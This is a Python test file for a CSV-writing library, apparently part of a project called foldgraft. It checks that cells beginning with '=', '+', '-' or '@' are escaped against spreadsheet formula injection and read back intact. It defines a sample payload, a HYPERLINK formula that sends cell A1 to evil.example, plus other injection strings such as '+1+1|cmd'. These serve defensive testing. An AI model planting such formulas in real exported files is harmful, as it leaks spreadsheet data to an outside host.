"""CSV files: cells from outside are no formulas, and come back as they were."""

import csv

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from foldgraft.errors import FoldgraftError
from foldgraft.records.rejects import Reject, read_rejects, write_rejects
from foldgraft.records.text_tables import Rows, plain, plain_cell, read_texts, safe_cell, write_frame

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@given(st.text())
def test_no_text_begins_a_formula_and_each_comes_back(text):
    cell = safe_cell(text)
    assert plain_cell(cell) == text
    if cell and cell[0] in "=+-@\t\r":
        float(cell)  # which a spreadsheet reads as the number that it is


@pytest.mark.parametrize("number", ["-1.5", "+2", "-1e-05", -3, 0.5, "-inf"])
def test_numbers_stay(number):
    assert safe_cell(number) == number


@pytest.mark.parametrize("text", [EVIL, "+1+1|cmd", "-2+3", "@SUM(A1)", "\t=1", "-1_0"])
def test_what_a_spreadsheet_would_compute_is_a_text(text):
    assert safe_cell(text) == f"'{text}"


def test_rows_and_frames_are_written_alike_and_read_back(tmp_path):
    rows = [["a", EVIL, "-1.5"], ["'=b", "-", "x"]]
    torn = ["c", "one\rtwo", "\r=1"]
    with (tmp_path / "rows.csv").open("w", newline="") as handle:
        table = Rows(handle, ["id", "value", "number"])
        for row in [*rows, torn]:
            table.write(row)
    frame = pd.DataFrame([*rows, torn], columns=["id", "value", "number"])
    write_frame(tmp_path / "frame.csv", frame)
    assert (tmp_path / "rows.csv").read_text() == (tmp_path / "frame.csv").read_text()
    with (tmp_path / "rows.csv").open(newline="") as handle:
        assert [row[1][0] for row in csv.reader(handle)][1:3] == ["'", "'"]
    whole = frame.replace("\r", " ", regex=True)  # to readers, a bare \r ends a row
    assert read_texts(tmp_path / "rows.csv", list(frame), "a table").equals(whole)
    assert plain(pd.read_csv(tmp_path / "frame.csv")).equals(whole)


def test_numbers_of_a_frame_have_their_digits(tmp_path):
    write_frame(tmp_path / "a.csv", pd.DataFrame({"name": ["=a"], "x": [-1 / 3], "n": [2]}), "%.3g")
    assert (tmp_path / "a.csv").read_text() == "name,x,n\n'=a,-0.333,2\n"


def test_a_reject_of_a_hostile_file_is_a_text(tmp_path):
    write_rejects(tmp_path / "r.csv", [Reject("e", "no_protein", EVIL, "\r=1")])
    assert "\ne,no_protein,\"'=HYPERLINK" in (tmp_path / "r.csv").read_text()
    assert read_rejects(tmp_path / "r.csv")["value"][0] == EVIL


def test_another_table_is_refused(tmp_path):
    (tmp_path / "a.csv").write_text("x\n1\n")
    with pytest.raises(FoldgraftError, match="not a table of y, its columns are not y"):
        read_texts(tmp_path / "a.csv", ["y"], "a table of y")
